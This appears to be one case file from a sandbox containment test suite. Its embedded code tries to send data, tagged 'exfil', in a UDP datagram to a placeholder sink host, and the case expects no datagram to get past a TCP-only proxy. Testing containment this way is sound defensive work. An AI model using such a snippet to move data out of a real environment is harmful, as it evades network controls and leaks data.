from ._net import ALLOW
from ._net import sink_decides as score  # score: the runner reads it

ID = "net.direct-udp-allow"
CATEGORY = "network"
DESCRIPTION = "with network allow on (a proxy for TCP), send the data in a UDP datagram straight to the sink"
CLAIMS = ("rule:network (namespace)",)
POLICY = ALLOW
CODE = """
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as u:
        u.sendto(("exfil " + DATA).encode(), (SINK_HOST, SINK_PORT))
    out("SENT", f"sendto {SINK_HOST}:{SINK_PORT} returned")
except OSError as e:
    out("DENIED", f"udp sendto {SINK_HOST}:{SINK_PORT}: {ename(e)}")
"""
CONTROL = "host"
CONTAINED = "UDP has no way out (the proxy carries TCP only): no datagram reaches the sink"
